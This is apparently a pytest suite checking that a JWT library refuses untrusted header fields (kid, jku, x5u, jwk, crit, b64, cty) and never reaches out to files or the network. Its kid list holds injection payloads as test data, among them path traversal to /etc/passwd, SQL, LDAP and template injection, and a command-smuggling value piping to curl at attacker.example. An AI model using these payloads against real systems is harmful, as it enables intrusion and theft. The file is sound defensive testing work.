"""Header games: a header chooses among our keys and nothing else (RFC 8725 section 3.10)."""

import builtins
import pathlib
import socket
import urllib.request

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import HMACAlgorithm, RSAAlgorithm

KIDS = {
    "path": "../../../../../../etc/passwd",
    "empty file": "/dev/null",
    "windows path": "..\\..\\windows\\win.ini",
    "nul": "/etc/passwd\0.pem",
    "sql": "x' UNION SELECT 'secret' -- ",
    "sql or": "' OR '1'='1",
    "command": "key | curl https://attacker.example/",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "url": "https://attacker.example/jwks.json",
    "file url": "file:///etc/passwd",
    "ldap": "*)(uid=*",
    "log": "x\r\nlevel=info msg=fine",
    "star": "*",
    "empty": "",
    "long": "k" * 5000,
    "bidi": "\u202egnikool",
    "unicode": "\uff4b\uff49\uff44",
}
NO_TEXT = [None, True, False, 0, 1, -1, 1.5, [], {}, ["kid"], {"kid": "kid"}]


@pytest.fixture(autouse=True)
def no_way_out(monkeypatch):
    """Nothing in a header may open a file or a connection."""

    def refuse(*_, **__):
        pytest.fail("a header made the codec reach out")

    def hold() -> None:
        monkeypatch.setattr(socket, "socket", refuse)
        monkeypatch.setattr(socket, "getaddrinfo", refuse)
        monkeypatch.setattr(urllib.request, "urlopen", refuse)
        monkeypatch.setattr(builtins, "open", refuse)
        monkeypatch.setattr(pathlib.Path, "open", refuse)

    hold()
    yield
    monkeypatch.undo()


@pytest.mark.parametrize("kid", KIDS.values(), ids=KIDS)
def test_an_unknown_kid_is_refused_whatever_it_says(forger, kid):
    assert forger.refuses(forger.with_header(kid=kid), "not signed with a key of this API")


@pytest.mark.parametrize("secret", [b"", b"\n", b"\0"])
def test_a_kid_that_names_an_empty_file_makes_no_empty_key(forger, secret):
    token = forger.forge({**forger.header, "kid": "/dev/null"}, secret=secret)
    assert forger.refuses(token, "not signed with a key of this API")


@pytest.mark.parametrize("kid", NO_TEXT, ids=repr)
def test_a_kid_that_is_no_string_is_refused_and_not_taken_for_none(forger, kid):
    assert forger.refuses(forger.with_header(kid=kid), "not signed with a key of this API")


def test_a_kid_is_compared_to_the_letter(forger):
    kid = forger.key.kid
    for near in (kid + " ", " " + kid, kid[:-1], kid + "=", kid.swapcase(), kid + "\0", f"{kid},{kid}"):
        assert forger.refuses(forger.with_header(kid=near), "not signed with a key of this API")


def test_a_token_without_a_kid_is_tried_with_the_signing_key_only(forger, make_forger):
    header = forger.header
    del header["kid"]
    assert forger.verify(forger.forge(header))
    assert forger.refuses(forger.forge(header, secret=make_forger().key.secret), "signature")


ATTACKER_RSA = rsa.generate_private_key(public_exponent=65537, key_size=2048)
ATTACKER_SECRET = b"a secret that only the attacker knows, long enough for HS256"
KEYS_BROUGHT_ALONG = {
    "jwk rsa": {"jwk": RSAAlgorithm.to_jwk(ATTACKER_RSA.public_key(), as_dict=True)},
    "jwk oct": {"jwk": HMACAlgorithm.to_jwk(ATTACKER_SECRET, as_dict=True)},
    "jku": {"jku": "https://attacker.example/jwks.json"},
    "jku file": {"jku": "file:///dev/null"},
    "jku list": {"jku": ["https://attacker.example/jwks.json"]},
    "x5u": {"x5u": "https://attacker.example/cert.pem"},
    "x5c": {"x5c": ["MIIB"]},
    "x5c text": {"x5c": "MIIB"},
    "x5t": {"x5t": "AA", "x5t#S256": "AA"},
    "all": {"jwk": {"kty": "oct", "k": "AA"}, "jku": "https://x.example", "x5u": "https://x.example", "x5c": []},
}


@pytest.mark.parametrize("members", KEYS_BROUGHT_ALONG.values(), ids=KEYS_BROUGHT_ALONG)
def test_a_key_that_a_token_brings_along_is_never_used(forger, members):
    named = {**forger.header, **members}
    unnamed = {name: value for name, value in named.items() if name != "kid"}
    for header in (named, unnamed):
        assert forger.refuses(forger.forge(header, secret=ATTACKER_SECRET), "signature")


@pytest.mark.parametrize("members", KEYS_BROUGHT_ALONG.values(), ids=KEYS_BROUGHT_ALONG)
def test_a_key_that_a_token_brings_along_is_ignored_where_our_own_key_signed(forger, members):
    """RFC 7515 section 4: what is not understood is ignored; our signature covers it."""
    assert forger.verify(forger.with_header(**members)).subject == forger.claims["sub"]


@pytest.mark.parametrize(
    "crit",
    [["exp"], ["b64"], ["kid"], ["x"], [], [""], None, "exp", True, 0, {}, {"exp": 1}, [["exp"]], ["exp", "exp"]],
    ids=repr,
)
def test_any_crit_is_refused(forger, crit):
    """RFC 7515 section 4.1.11: no extension is understood, so none may be critical; an empty list is no list."""
    assert forger.refuses(forger.with_header(crit=crit), "not understood")
    assert forger.refuses(forger.with_header(crit=crit, exp=1, x=1), "not understood")


@pytest.mark.parametrize("b64", [False, True, None, 0, "false", []], ids=repr)
def test_any_b64_is_refused(forger, b64):
    """RFC 7797: it changes what a signature covers."""
    assert forger.refuses(forger.with_header(b64=b64), "not understood")
    assert forger.refuses(forger.with_header(b64=b64, crit=["b64"]), "not understood")


def test_an_unencoded_payload_is_refused(forger):
    header = forger.segment({**forger.header, "b64": False, "crit": ["b64"]})
    for payload in ("plain", "$.02", '{"sub":"u"}'):
        signature = forger.sign(f"{header}.{payload}").rpartition(".")[2]
        assert forger.refuses(f"{header}.{payload}.{signature}")
        assert forger.refuses(f"{header}..{signature}", "malformed")


@pytest.mark.parametrize(
    "members", [{"zip": "DEF"}, {"enc": "A128GCM"}, {"enc": "A128GCM", "zip": "DEF"}, {"epk": {}}]
)
def test_nothing_is_decrypted_or_unpacked(forger, members):
    """The payload stays what was signed, whatever an encryption header says of it."""
    import zlib  # noqa: PLC0415  # needed here only

    packed = zlib.compress(b'{"sub": "admin"}')[2:-4]
    assert forger.verify(forger.with_header(**members)).subject == forger.claims["sub"]
    assert forger.refuses(forger.forge({**forger.header, **members}, packed), "no JSON")


def test_five_segments_as_of_an_encrypted_token_are_refused(forger):
    header = forger.segment({"alg": "dir", "enc": "A128GCM", "typ": "at+jwt", "kid": forger.key.kid})
    assert forger.refuses(f"{header}..AAAA.AAAA.AAAA", "malformed")
    assert forger.refuses(f"{header}.AAAA.AAAA.AAAA.AAAA", "malformed")


@pytest.mark.parametrize("cty", ["JWT", "jwt", "application/json", None, 1])
def test_a_token_within_a_token_is_not_opened(forger, cty):
    inner = forger.forge()
    header = {**forger.header, "cty": cty}
    assert forger.refuses(forger.forge(header, inner), "no JSON")
    assert forger.refuses(forger.forge(header, {"jwt": inner}), "claim sub")
    assert forger.verify(forger.forge(header)).subject == forger.claims["sub"]


@pytest.mark.parametrize(
    "header",
    [b"", b"[]", b"null", b'"HS256"', b"7", b"{", b"{}x", b"\xff", b'\xef\xbb\xbf{"alg":"HS256"}', b"[[[["],
    ids=repr,
)
def test_a_header_that_is_no_json_object_is_refused(forger, header):
    payload = forger.segment(forger.claims)
    assert forger.refuses(forger.sign(f"{forger.segment(header)}.{payload}"))


@pytest.mark.parametrize("name", ["alg", "typ", "kid"])
@pytest.mark.parametrize("spelling", ["{}", "\\u{:04x}"])
def test_a_header_that_names_a_member_twice_is_refused(forger, name, spelling):
    """Which of the two counts differs from parser to parser."""
    again = name if spelling == "{}" else spelling.format(ord(name[0])) + name[1:]
    rest = ",".join(f'"{one}":"{value}"' for one, value in forger.header.items())
    header = f'{{"{again}":"{forger.header[name]}",{rest}}}'
    assert forger.refuses(forger.forge(header), "twice")


@pytest.mark.parametrize("name", ["ALG", "Alg", "alg ", "\u0430lg"])
def test_names_are_compared_to_the_letter(forger, name):
    header = forger.header
    header[name] = header.pop("alg")
    assert forger.refuses(forger.forge(header), "not signed with a key of this API")


def test_claims_repeated_in_the_header_count_for_nothing(forger):
    token = forger.verify(forger.with_header(sub="admin", exp=1, permissions=["*"], iss="x", aud="y"))
    assert token.subject == forger.claims["sub"]
    assert token.principal.permissions == {"reports:read"}


def test_a_header_of_another_order_or_with_white_space_means_the_same(forger):
    header = forger.header
    turned = dict(reversed(header.items()))
    assert forger.verify(forger.forge(turned))
    assert forger.verify(forger.forge(f' {{"alg" : "{header["alg"]}",\n"typ":"at+jwt"}} '))
